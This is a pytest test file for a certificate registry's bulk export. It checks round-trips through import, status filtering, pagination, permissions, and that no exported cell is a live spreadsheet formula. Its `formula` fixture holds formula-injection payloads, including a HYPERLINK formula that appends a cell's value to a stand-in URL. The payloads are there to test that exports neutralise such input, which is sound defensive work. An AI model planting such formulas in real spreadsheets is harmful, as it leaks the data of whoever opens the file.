"""Exports: the same columns, no formulas, and an import of one changes nothing."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import openpyxl
import pytest

from registry.domain.certificate import Certificate
from registry.domain.errors import InvalidInput, NotPermitted
from registry.domain.lifecycle import Status
from registry.domain.reasons import Act, Reason
from registry.domain.schemes import Text
from registry.formats.certificate_rows import CertificateRows
from registry.formats.table import TableFormat
from registry.services.bulk.checked_file import Counts
from registry.services.bulk.export import heading, write_export
from registry.services.change_status import change_status
from registry.services.context import Actor, Registry, Verb, operator
from registry.services.find import Filters
from registry.services.issue import issue, issue_many
from tests.conftest import sample_certificate
from tests.services.bulk.test_import_certificates import take_in


def exported(registry: Registry, actor: Actor, kind: str, filters: Filters | None = None) -> io.BytesIO:
    file = io.BytesIO()
    write_export(registry, actor, TableFormat(kind), filters or Filters(), file)
    file.seek(0)
    return file


def formula(number: str) -> Certificate:
    """A certificate of somebody who means harm to whoever opens the list."""
    base = sample_certificate(number)
    name = Text('=HYPERLINK("http://example.com/?"&A1)', "@SUM(1+1)")
    return replace(base, holder=replace(base.holder, name=name), scope=Text("'=1+1", "+1"))


@pytest.mark.parametrize("kind", ["csv", "xlsx", "ndjson"])
def test_an_export_can_be_imported_and_is_all_there_already(registry: Registry, actor: Actor, kind: str) -> None:
    certificates = [sample_certificate("A1"), formula("A2"), formula("=A3"), sample_certificate("A4", sites=())]
    for one in certificates:
        issue(registry, actor, one)
    issue(registry, operator(registry, "other"), sample_certificate("B1"))
    file = exported(registry, actor, kind)
    file.seek(0)
    assert take_in(registry, actor, file, kind) == Counts(4, 0, 4, 0)
    other = operator(registry, "other")
    assert take_in(registry, other, exported(registry, actor, kind), kind) == Counts(4, 4, 0, 0)
    again = list(CertificateRows(exported(registry, other, kind), TableFormat(kind)))
    assert [one.request["certificate"] for one in again][1:] == [
        one.request["certificate"] for one in CertificateRows(io.BytesIO(file.getvalue()), TableFormat(kind))
    ]


def test_no_cell_of_an_export_is_a_formula(registry: Registry, actor: Actor) -> None:
    issue(registry, actor, formula("-1"))
    sheet = openpyxl.load_workbook(exported(registry, actor, "xlsx")).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    cells_of_csv = next(
        iter(list(csv.reader(io.StringIO(exported(registry, actor, "csv").getvalue().decode("utf-8-sig"))))[1:])
    )
    assert {cell.data_type for cell in cells} == {"s"}
    for cell in (*(cell.value for cell in cells), *cells_of_csv):
        assert not cell.startswith(("=", "+", "-", "@"))


def test_an_export_says_the_status_and_is_narrowed_down(registry: Registry, actor: Actor) -> None:
    row = issue(registry, actor, sample_certificate("A1"))
    issue(registry, actor, sample_certificate("A2"))
    change_status(registry, actor, row.public_id, Act.SUSPEND, Reason.FEE_UNPAID)
    text = exported(registry, actor, "csv", Filters(status=Status.SUSPENDED)).getvalue().decode("utf-8-sig")
    (found,) = csv.DictReader(io.StringIO(text))
    assert (found["number"], found["public_id"], found["status"]) == ("A1", row.public_id, "suspended")


def test_an_export_goes_beyond_one_page(registry: Registry, actor: Actor) -> None:
    issue_many(registry, actor, [sample_certificate(f"N{serial:04}") for serial in range(2001)])
    lines = exported(registry, actor, "ndjson").getvalue().splitlines()
    assert len(lines) == 2001


def test_an_export_of_nothing_is_a_heading(registry: Registry, actor: Actor) -> None:
    assert exported(registry, actor, "csv").getvalue().decode("utf-8-sig").strip().split(",") == heading()
    assert exported(registry, actor, "ndjson").getvalue() == b""


def test_more_sites_than_a_cell_can_hold_are_told(registry: Registry, actor: Actor) -> None:
    site = sample_certificate().sites[0]
    long = replace(site, scope=Text("生产" * 1000))
    issue(registry, actor, sample_certificate("A1", sites=(long,) * 20))
    with pytest.raises(InvalidInput, match=r"cell of A1 .* export as CSV"):
        exported(registry, actor, "xlsx")
    assert take_in(registry, actor, exported(registry, actor, "csv")) == Counts(1, 0, 1, 0)


def test_who_may_not_read_may_not_export(registry: Registry, actor: Actor) -> None:
    with pytest.raises(NotPermitted):
        exported(registry, replace(actor, verbs=frozenset({Verb.ISSUE})), "csv")
